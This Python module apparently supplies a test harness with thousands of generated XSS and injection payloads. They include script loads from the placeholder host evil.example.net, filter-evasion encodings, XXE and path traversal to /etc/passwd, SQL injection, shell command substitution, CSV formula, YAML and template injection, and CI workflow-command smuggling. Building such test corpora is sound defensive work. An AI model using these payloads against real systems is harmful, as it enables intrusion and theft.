"""Attacks made here, so that the harnesses are whole where the shared folder is absent.

Every payload that runs script says `alert(1)`, and every one that asks elsewhere asks `evil.example.net`: both are
seen by the harness in the browser. A payload is what breaks out of its place (`OUT`), then what acts (`ACTS`), in one
of the disguises that filters were fooled by (`GUISES`). No two are equal, and the order is the same each time.
"""

import random
import re
from collections.abc import Callable, Iterator
from itertools import islice, product
from typing import Final

HOST: Final = "evil.example.net"

OUT: Final = (
    "",
    '">',
    "'>",
    "' ",
    '" ',
    "</title>",
    "</script>",
    "</style>",
    "</textarea>",
    "</noscript>",
    "</bdi></a></h2>",
    "-->",
    "]]>",
    "<!--><!",
    "</mark>",
    "<math><mtext></mtext></math>",
    "</summary></details>",
    '\\">',
    "`>",
    "&quot;>",
)
ACTS: Final = (
    "<script>alert(1)</script>",
    "<script>alert(1)//",
    f"<script src=//{HOST}/x.js></script>",
    "<img src=x onerror=alert(1)>",
    f"<img src=https://{HOST}/pixel.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    f"<svg><image href=https://{HOST}/i.png></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    f"<iframe src=https://{HOST}/frame></iframe>",
    "<iframe src=javascript:parent.alert(1)></iframe>",
    f"<object data=https://{HOST}/o></object>",
    f"<embed src=https://{HOST}/e>",
    f"<link rel=stylesheet href=https://{HOST}/s.css>",
    f"<style>@import 'https://{HOST}/s.css';</style>",
    f"<p style=background:url(https://{HOST}/b.png)>x</p>",
    f"<base href=https://{HOST}/>",
    f"<meta http-equiv=refresh content='0;url=https://{HOST}/'>",
    "<body onload=alert(1)>",
    "<p onmouseover=alert(1)>x</p>",
    "<a href=javascript:alert(1)>x</a>",
    f"<form action=https://{HOST}/><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<select><style></select><img src=x onerror=alert(1)></style></select>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<?xml-stylesheet href='data:text/xsl,x'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    f"<link rel=preload as=image href=https://{HOST}/p.png>",
    f"<link rel=prefetch href=https://{HOST}/p.html>",
    "onmouseover=alert(1) x=",
    "onfocus=alert(1) autofocus tabindex=1 x=",
    "style=animation-name:x onanimationstart=alert(1) x=",
)


def _mixed(words: str) -> str:
    return "".join(sign.upper() if place % 2 else sign for place, sign in enumerate(words))


GUISES: Final[tuple[Callable[[str], str], ...]] = (
    lambda words: words,
    _mixed,
    lambda words: words.replace(" on", "/on").replace(" src", "/src"),
    lambda words: words.replace("=", "\t=\t"),
    lambda words: words.replace("<", "&lt;").replace(">", "&gt;"),
    lambda words: words.replace("<", "&#60;"),
    lambda words: words.replace("<", "\x00<\x00"),
    lambda words: words.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda words: f"<{words}>",
    lambda words: words.replace("<", "<\u200b<"),
    lambda words: words.replace("alert", "\\u0061lert"),
    lambda words: f"$x{words}$",
)

# What means something to one of the other formats that words are put into, or to who reads our logs.
OTHERS: Final = (
    "[x](javascript:alert(1))",
    "[x](JaVa\tScRiPt:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    f"![x](https://{HOST}/pixel.png)",
    f"[![x](https://{HOST}/p.png)](javascript:alert(1))",
    f"<https://{HOST}/\"onmouseover='alert(1)'>",
    "[x]: javascript:alert(1) [x]",
    "# A heading",
    "```\n<script>alert(1)</script>\n```",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "{{ 7 * 7 }}{% raw %}{# #}",
    "{{ config.__class__.__mro__ }}",
    "${7*7} <%= 7*7 %> #{7*7}",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$$\\begin{matrix}<script>alert(1)</script>\\end{matrix}$$",
    "\\input{/etc/passwd} \\write18{id} } @misc{evil, title={x}}",
    "x}, author={Evil}, note={y",
    '", author = "Evil',
    "% a comment\n@string{x = 1}",
    "ER  - \r\nTY  - JOUR\r\nTI  - Evil",
    "\nER  - \nTY  - JOUR",
    "x\r\nBcc: evil@example.net\r\n\r\nbody",
    "=?utf-8?q?x=0ABcc:_evil=40example.net?=",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    'a,b"c\nd',
    "'); DROP TABLE papers; --",
    "' OR 1=1 --",
    "---\nformat: 2\nid: evil\n---",
    "key: [1, 2\n- &a *a !!python/object:os.system",
    '{"__proto__": {"x": 1}}',
    '\\"}],"items":[{"id":"evil"}]',
    "constructor __proto__ toString hasOwnProperty",
    "]]><x/><![CDATA[",
    "&amp;lt;b&amp;gt; &nbsp; &bogus; &#0; &#xD800;",
    "::set-output name=x::y",
    "::add-mask::x\n::stop-commands::x",
    "[skip ci] fixes #1 @user",
    "$(id) `id` ; id | id && id",
    "../../../etc/passwd",
    "..\\..\\x\x00.md",
    "CON",
    "\u202egnp.exe \u2066x\u2069",
    "\x1b[31mred\x1b]0;title\x07",
    "a\u2028b\u2029c\x85d",
    "\ud800 \udfff \ufffe \uffff \ufdd0",
    "Z\u0351\u036b\u0343\u032a\u0302a\u0300l\u0334g\u0321o\u0321",
    "\ufdfd" * 9,
    "e\u0301 \u212b \ufb01",
    "%s %n %d %x {0} {}",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<" * 200,
    "&" * 200,
    "[" * 200,
    "*" * 200,
    "x" * 900,
)

ADDRESSES: Final = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "file:///etc/passwd",
    f"//{HOST}/x",
    f"\\\\{HOST}\\x",
    f"https://user:word@{HOST}/",
    f'https://{HOST}/"onmouseover="alert(1)',
    f"https://{HOST}/'><script>alert(1)</script>",
    f"https://{HOST}/\r\nSet-Cookie: x=1",
    f"https://{HOST}/{{{{7*7}}}}",
    "http://127.0.0.1/",
    "http://[::1]/",
    "https://",
    "https://x",
    "https://xn--e1afmkfd.example/\u202e",
    "ftp://example.net/x",
)
IDS: Final = (
    "../../etc/passwd",
    "2512.00001/../../../x",
    "..%2f..%2fx",
    "/etc/passwd",
    "C:\\x",
    "2512.00001\n",
    "2512.00001\x00",
    "2512.00001v2",
    "２５１２.00001",
    "title/../x",
    "title/con",
    "title/" + "a" * 300,
    "title/<script>",
    ".git/config",
    "",
    ".",
    "2512.00001?x=1",
    "2512.00001#x",
    "~root",
    "$(id)",
)


def acts() -> Iterator[str]:
    """All that is meant to run, or to load, on a page: over ten thousand, the plainest of each first."""
    for guise, (place, act) in product(GUISES, enumerate(ACTS)):
        yield guise(OUT[place % len(OUT)] + act)
    for guise, out, act in product(GUISES, OUT, ACTS):
        yield guise(out + act)


def payloads(count: int) -> tuple[str, ...]:
    """So many attacks, those on other formats first and then every kind of `acts`, shuffled by a fixed seed."""
    every = list(dict.fromkeys(acts()))
    plain, rest = every[: len(ACTS)], every[len(ACTS) :]
    random.Random(0).shuffle(rest)
    chosen = tuple(islice(dict.fromkeys((*plain, *OTHERS, *rest)), count))
    assert len(chosen) == count
    return chosen


def mark(number: int) -> str:
    """A word that stands in the payload's paper alone, by which a reader finds it: letters, no stem of another."""
    return "zq" + "".join(chr(ord("b") + int(digit)) for digit in f"{number:04d}") + "qz"


def steers(words: str) -> bool:
    """Whether a line of a log could steer who reads it: a command to a runner, or a control character."""
    return re.search(r"^\s*::|[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", words, re.MULTILINE) is not None
